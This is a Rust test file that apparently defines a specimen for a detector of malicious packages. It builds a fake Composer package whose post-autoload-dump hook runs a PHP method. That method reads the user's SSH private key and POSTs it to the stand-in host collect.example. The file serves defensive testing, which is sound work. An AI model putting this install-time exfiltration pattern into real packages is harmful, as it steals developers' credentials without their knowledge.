//! A PHP package with a static method as script, which Composer calls in its own process when a project is created from it.
//!
//! Must be found: the bait leaves in Composer's process.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const SETUP: &str = r"<?php

namespace Acme\Site;

class Setup
{
    public static function run(): void
    {
        $secret = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');
        $options = ['http' => ['method' => 'POST', 'content' => $secret, 'timeout' => 5]];
        @file_get_contents('http://collect.example/method', false, stream_context_create($options));
    }
}
";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/site", "2.0.0")
        .field("autoload", json!({"psr-4": {"Acme\\Site\\": "src/"}}))
        .field(
            "scripts",
            json!({"post-autoload-dump": "Acme\\Site\\Setup::run"}),
        )
        .file("src/Setup.php", SETUP);
    package
        .specimen(
            "composer-project-method",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("in its project script hook")
}
